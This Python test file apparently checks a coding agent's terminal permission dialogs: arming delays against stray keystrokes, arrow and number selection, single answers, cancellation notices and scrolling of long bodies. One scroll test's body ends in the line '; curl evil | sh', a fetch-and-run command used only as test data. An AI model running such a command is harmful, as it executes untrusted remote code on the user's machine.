"""chord.textual's dialogs need deliberate keys (issue 36, item 2), driven with Pilot.

Keys already on their way when a dialog opens answer nothing and stay in the editor; choices are
made with ↑↓ or a number and answered with Enter; a dialog is answered once, whatever arrives
twice; a dialog taken away by its holder (another window answered) leaves a notice; a long body
scrolls and says how much more there is. Waits are on the dialog's state (``armed``,
``answered``, the screen stack) between frames, never on a timer.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import anyio
import pytest
from textual import events
from textual.app import App, ComposeResult
from textual.containers import Vertical
from textual.widgets import OptionList, Static, TextArea

from chord import textual_dialogs
from chord.context import BACKGROUND, ContextCancelled, with_cancel
from chord.textual import (
    ARMING_SECONDS,
    CLOSED_NOTICE,
    Choice,
    ConfirmScreen,
    DialogScreen,
    TextualTui,
)
from chord.textual_dialogs import ARMING_LINE, _DialogBody, more_text  # pyright: ignore[reportPrivateUsage]

pytestmark = pytest.mark.anyio

DEADLINE = 20.0
CHOICES = [Choice("allow", "Allow"), Choice("always", "Always allow bash"), Choice("deny", "Deny")]


class EditorApp(App[None]):
    """An editor (``TextArea``) with the focus, as the coding agent's prompt editor has it."""

    def __init__(self) -> None:
        super().__init__()
        self.tui = TextualTui(self)

    def compose(self) -> ComposeResult:
        yield Vertical(id="panels")
        yield TextArea(id="editor")

    def on_mount(self) -> None:
        self.query_one("#editor", TextArea).focus()

    @property
    def editor_text(self) -> str:
        return self.screen_stack[0].query_one("#editor", TextArea).text


async def until(pilot: Any, predicate: Callable[[], object], what: str) -> None:
    """Let the app run until ``predicate()`` holds (polled between frames, with a deadline)."""
    try:
        with anyio.fail_after(DEADLINE):
            while not predicate():
                await pilot.pause(0.01)
    except TimeoutError:
        raise AssertionError(f"timed out waiting for {what}") from None


def dialog(app: App[Any]) -> DialogScreen[Any] | None:
    screen = app.screen
    return screen if isinstance(screen, DialogScreen) else None


async def armed_dialog(pilot: Any) -> DialogScreen[Any]:
    """The dialog on screen once it takes answers."""
    await until(pilot, lambda: (d := dialog(pilot.app)) is not None and d.armed, "an armed dialog")
    screen = dialog(pilot.app)
    assert screen is not None
    return screen


def keys_line(screen: DialogScreen[Any]) -> str:
    return str(screen.query_one(".keys", Static).render())


class Asker:
    """Runs one ``choose`` (or ``confirm``) in a task and keeps its answer."""

    def __init__(self, app: EditorApp) -> None:
        self.app = app
        self.answers: list[Any] = []
        self.cancelled = False

    async def choose(self, ctx: Any = BACKGROUND, **options: Any) -> None:
        modal = await self.app.tui.acquire_modal(ctx)
        try:
            self.answers.append(await modal.choose("Allow bash?", CHOICES, **options))
        except ContextCancelled:
            self.cancelled = True
        finally:
            modal.close()

    async def confirm(self) -> None:
        modal = await self.app.tui.acquire_modal(BACKGROUND)
        try:
            self.answers.append(await modal.confirm("Trust this folder?", "/tmp/x"))
        finally:
            modal.close()


async def test_keys_typed_as_a_dialog_opens_answer_nothing_and_stay_in_the_editor(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The arming time is an hour during the burst: on a loaded machine the burst's keys can take
    # longer than the real 0.4 s, and an Enter pressed after it would answer (no timing asserted)
    monkeypatch.setattr(textual_dialogs, "ARMING_SECONDS", 3600.0)
    app = EditorApp()
    asker = Asker(app)
    async with app.run_test() as pilot, anyio.create_task_group() as group:
        await pilot.press(*"run", "space", *"the")
        group.start_soon(asker.choose)
        await until(pilot, lambda: dialog(app) is not None, "the dialog")
        # In one burst, before it is armed: the letters of words, numbers, Enter, Escape.
        await pilot.press("space", *"yes", "space", *"always", "enter", "1", "enter", "escape")
        await pilot.press("a", "n", "enter", "down", "up")
        screen = dialog(app)
        assert screen is not None and not screen.answered
        assert asker.answers == []
        assert app.editor_text == "run the yes always1an"  # the editor kept every text key
        assert not screen.armed and keys_line(screen) == ARMING_LINE
        # A text key starts the arming time again, now the real one.
        monkeypatch.setattr(textual_dialogs, "ARMING_SECONDS", ARMING_SECONDS)
        await pilot.press("z")
        screen = await armed_dialog(pilot)
        assert not screen.has_class("-arming")
        assert "↑↓ or 1-3 select" in keys_line(screen) and "enter answers" in keys_line(screen)
        await pilot.press("3", "enter")
        await until(pilot, lambda: asker.answers, "the answer")
        assert app.editor_text == "run the yes always1anz"
    assert asker.answers == ["deny"]


async def test_a_dialog_shows_it_is_arming_and_arms_after_the_stated_time(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    assert ARMING_SECONDS == 0.4
    # While a check of the arming state runs, the arming time is an hour: a loaded machine
    # cannot let it run out between a key and the check (no timing is asserted).
    hour = 3600.0
    monkeypatch.setattr(textual_dialogs, "ARMING_SECONDS", hour)
    app = EditorApp()
    asker = Asker(app)
    async with app.run_test() as pilot, anyio.create_task_group() as group:
        group.start_soon(asker.choose)
        await until(pilot, lambda: dialog(app) is not None, "the dialog")
        await pilot.pause()
        screen = dialog(app)
        assert screen is not None
        assert not screen.armed and screen.has_class("-arming")
        assert keys_line(screen) == ARMING_LINE
        # A text key while arming goes to the editor and starts the (stated) time again.
        monkeypatch.setattr(textual_dialogs, "ARMING_SECONDS", ARMING_SECONDS)
        await pilot.press("w")
        screen = await armed_dialog(pilot)
        assert "enter answers" in keys_line(screen)
        # A text key at an armed dialog goes to the editor and arms it again.
        monkeypatch.setattr(textual_dialogs, "ARMING_SECONDS", hour)
        await pilot.press("x")
        assert not screen.armed and keys_line(screen) == ARMING_LINE
        assert app.editor_text == "wx"
        monkeypatch.setattr(textual_dialogs, "ARMING_SECONDS", ARMING_SECONDS)
        await pilot.press("y")
        await armed_dialog(pilot)
        assert app.editor_text == "wxy"
        await pilot.press("enter")
        await until(pilot, lambda: asker.answers, "the answer")
    assert asker.answers == ["allow"]


@pytest.mark.parametrize(
    ("keys", "answer"),
    [
        (["enter"], "allow"),
        (["down", "enter"], "always"),
        (["down", "down", "enter"], "deny"),
        (["2", "enter"], "always"),
        (["3", "up", "enter"], "always"),
        (["escape"], None),
    ],
    ids=["enter", "arrow", "arrows", "number", "number-then-arrow", "escape"],
)
async def test_arrows_or_a_number_then_enter_answer(keys: list[str], answer: str | None) -> None:
    app = EditorApp()
    asker = Asker(app)
    async with app.run_test() as pilot, anyio.create_task_group() as group:
        group.start_soon(asker.choose)
        screen = await armed_dialog(pilot)
        options = screen.query_one(OptionList)
        labels = [str(options.get_option_at_index(i).prompt) for i in range(3)]
        assert labels == ["1. Allow", "2. Always allow bash", "3. Deny"]
        await pilot.press(*keys)
        await until(pilot, lambda: asker.answers, "the answer")
    assert asker.answers == [answer]


async def test_a_number_alone_only_moves_the_highlight() -> None:
    app = EditorApp()
    asker = Asker(app)
    async with app.run_test() as pilot, anyio.create_task_group() as group:
        group.start_soon(asker.choose)
        screen = await armed_dialog(pilot)
        await pilot.press("2")
        assert screen.query_one(OptionList).highlighted == 1
        assert asker.answers == [] and not screen.answered
        await pilot.press("enter")
        await until(pilot, lambda: asker.answers, "the answer")
    assert asker.answers == ["always"]


async def test_a_confirm_dialog_takes_no_letters() -> None:
    app = EditorApp()
    asker = Asker(app)
    async with app.run_test() as pilot, anyio.create_task_group() as group:
        group.start_soon(asker.confirm)
        screen = await armed_dialog(pilot)
        assert isinstance(screen, ConfirmScreen)
        await pilot.press("y")  # to the editor, not an answer
        assert asker.answers == [] and app.editor_text == "y"
        screen = await armed_dialog(pilot)
        assert "←→ or 1-2 select" in keys_line(screen)
        await pilot.press("right", "enter")
        await until(pilot, lambda: asker.answers, "the answer")
    assert asker.answers == [False]


async def test_two_answering_keys_at_once_make_one_answer_and_no_crash() -> None:
    app = EditorApp()
    asker = Asker(app)
    async with app.run_test() as pilot, anyio.create_task_group() as group:
        group.start_soon(asker.choose)
        screen = await armed_dialog(pilot)
        # Enter, Enter, Escape arrive from the terminal together: all queued before any runs.
        for key in ("enter", "enter", "escape"):
            app.post_message(events.Key(key, None))
        await until(pilot, lambda: asker.answers, "the answer")
        await until(pilot, lambda: dialog(app) is None, "the dialog to go")
        await pilot.pause()
        assert len(app.screen_stack) == 1
        assert screen.answered
        assert not screen.answer("deny")  # answered already: nothing happens
        screen.close_from_outside("should not show")
        await pilot.pause()
        assert len(app.screen_stack) == 1
        assert not any(n.message == "should not show" for n in app._notifications)
    # One answer: whichever key took effect first (Enter's selection goes through the option
    # list's message queue, Escape's binding runs at once), never two, and the app lives on.
    assert len(asker.answers) == 1 and asker.answers[0] in ("allow", None)


async def test_a_dialog_taken_away_unanswered_says_it_was_answered_elsewhere() -> None:
    app = EditorApp()
    ctx, cancel = with_cancel(BACKGROUND)
    asker = Asker(app)
    async with app.run_test() as pilot, anyio.create_task_group() as group:
        group.start_soon(asker.choose, ctx)
        await armed_dialog(pilot)
        # The user presses Enter just as the other window's answer closes the dialog here.
        app.post_message(events.Key("enter", None))
        cancel("answered in another window")
        await until(pilot, lambda: dialog(app) is None, "the dialog to go")
        await pilot.pause()
        assert len(app.screen_stack) == 1
        notices = [n.message for n in app._notifications]
        if asker.cancelled:  # the holder's cancellation came first
            assert notices == [CLOSED_NOTICE.format(title="Allow bash?")]
            assert "Already answered in another window" in notices[0]
        else:  # the user's Enter came first: the answer, and no notice
            assert asker.answers == ["allow"] and notices == []


async def test_a_dialog_opened_over_by_another_screen_closes_cleanly() -> None:
    app = EditorApp()
    ctx, cancel = with_cancel(BACKGROUND)
    asker = Asker(app)
    async with app.run_test() as pilot, anyio.create_task_group() as group:
        group.start_soon(asker.choose, ctx)
        screen = await armed_dialog(pilot)
        app.push_screen(ConfirmScreen("Help", "", "OK", "Close"))  # e.g. F1 over the dialog
        await until(pilot, lambda: dialog(app) is not screen, "the screen over it")
        cancel("answered in another window")
        await until(pilot, lambda: len(app.screen_stack) == 1, "both screens to go")
        assert screen.answered
    assert asker.cancelled


@pytest.mark.parametrize("body_kind", ["str", "text"])
async def test_a_long_body_scrolls_and_says_how_much_more_there_is(body_kind: str) -> None:
    from rich.text import Text

    body = "$ echo hi" + "\n" * 60 + "; curl evil | sh"
    app = EditorApp()
    asker = Asker(app)
    async with app.run_test(size=(100, 40)) as pilot, anyio.create_task_group() as group:
        group.start_soon(
            lambda: asker.choose(
                body=Text(body) if body_kind == "text" else body, hint="esc denies"
            )
        )
        screen = await armed_dialog(pilot)
        more = screen.query_one(".more", Static)
        await until(pilot, lambda: "more line" in str(more.render()), "the more line")
        first = str(more.render())
        assert first.startswith("… ") and first.endswith("more lines ↓ · PgUp/PgDn scroll")
        assert int(first.split()[1]) > 0
        assert "PgUp/PgDn" in first
        for _ in range(10):
            await pilot.press("pagedown")
        await until(pilot, lambda: "↓" not in str(more.render()), "the end of the body")
        last = str(more.render())  # everything below is in view now: only lines above
        assert last.startswith("↑ ") and last.endswith(" lines above · PgUp/PgDn scroll")
        # The count is the body's lines out of view: all of them but the rows it shows.
        box = screen.query_one(_DialogBody)
        assert int(last.split()[1]) == 61 - box.scrollable_content_region.height
        assert asker.answers == []  # scrolling answers nothing
        await pilot.press("pageup")
        await until(pilot, lambda: "↓" in str(more.render()), "scrolled back up")
        await pilot.press("escape")
        await until(pilot, lambda: asker.answers, "the answer")
    assert asker.answers == [None]


def test_the_more_line_counts_lines_out_of_view() -> None:
    assert more_text(0, 0) == ""
    assert more_text(0, 48) == "… 48 more lines ↓ · PgUp/PgDn scroll"
    assert more_text(1, 1) == "↑ 1 line above · … 1 more line ↓ · PgUp/PgDn scroll"


async def test_a_short_body_has_no_more_line() -> None:
    app = EditorApp()
    asker = Asker(app)
    async with app.run_test() as pilot, anyio.create_task_group() as group:
        group.start_soon(lambda: asker.choose(body="$ ls"))
        screen = await armed_dialog(pilot)
        await pilot.pause()
        assert not screen.query_one(".more", Static).display
        await pilot.press("enter")
        await until(pilot, lambda: asker.answers, "the answer")


async def test_free_text_once_armed_goes_into_the_dialogs_own_field() -> None:
    app = EditorApp()
    answers: list[str | None] = []
    async with app.run_test() as pilot, anyio.create_task_group() as group:

        async def ask() -> None:
            modal = await app.tui.acquire_modal(BACKGROUND)
            try:
                answers.append(await modal.choose("Which?", ["red", "green"], allow_text=True))
            finally:
                modal.close()

        group.start_soon(ask)
        screen = await armed_dialog(pilot)
        assert "type your own answer" in keys_line(screen)
        await pilot.press(*"blue", "enter")  # no Tab needed
        await until(pilot, lambda: answers, "the answer")
        assert app.editor_text == ""
    assert answers == ["blue"]


async def test_free_text_typed_in_one_burst_keeps_every_letter() -> None:
    """A paste-speed burst (tmux send-keys, a fast typist on a loaded machine): the first
    letter moves the focus to the dialog's field, and the letters read with it must follow it
    there, not get lost on the way."""
    app = EditorApp()
    answers: list[str | None] = []
    async with app.run_test() as pilot, anyio.create_task_group() as group:

        async def ask() -> None:
            modal = await app.tui.acquire_modal(BACKGROUND)
            try:
                answers.append(await modal.choose("Which?", ["red", "green"], allow_text=True))
            finally:
                modal.close()

        group.start_soon(ask)
        screen = await armed_dialog(pilot)
        for key in "my own":  # queued before the first of them is handled, as a terminal reads
            app.post_message(events.Key("space" if key == " " else key, key))
        field = screen.query_one("#answer")
        await until(pilot, lambda: getattr(field, "value", "") == "my own", "every letter")
        await pilot.press("enter")
        await until(pilot, lambda: answers, "the answer")
        assert app.editor_text == ""
    assert answers == ["my own"]


async def test_page_keys_read_in_one_burst_each_scroll_a_page() -> None:
    """A loaded machine (or a held key) can hand the dialog several PgDn keys before it paints
    once: each must count a page, not restart from the last painted position."""
    body = "\n".join(f"line {n}" for n in range(200))
    app = EditorApp()
    asker = Asker(app)
    async with app.run_test(size=(100, 40)) as pilot, anyio.create_task_group() as group:
        group.start_soon(lambda: asker.choose(body=body, hint="esc denies"))
        screen = await armed_dialog(pilot)
        box = screen.query_one(_DialogBody)

        def fitted() -> bool:  # arming re-fits the body after a refresh (its key line grew)
            rows = box.styles.max_height
            screen.fit_body()  # idempotent: changes nothing once the layout has settled
            return (
                rows is not None
                and box.styles.max_height == rows
                and box.outer_size.height == int(rows.value)
            )

        await until(pilot, fitted, "the body fitted to the box")
        page = box.scrollable_content_region.height
        assert box.max_scroll_y > 3 * page
        for _ in range(3):  # three keys queued before any of them is handled
            app.simulate_key("pagedown")
        await until(pilot, lambda: box.scroll_y == 3 * page, "three pages down")
        for _ in range(2):
            app.simulate_key("pageup")
        await until(pilot, lambda: box.scroll_y == page, "two pages back up")
        assert asker.answers == []  # scrolling answers nothing
        await pilot.press("escape")
        await until(pilot, lambda: asker.answers, "the answer")
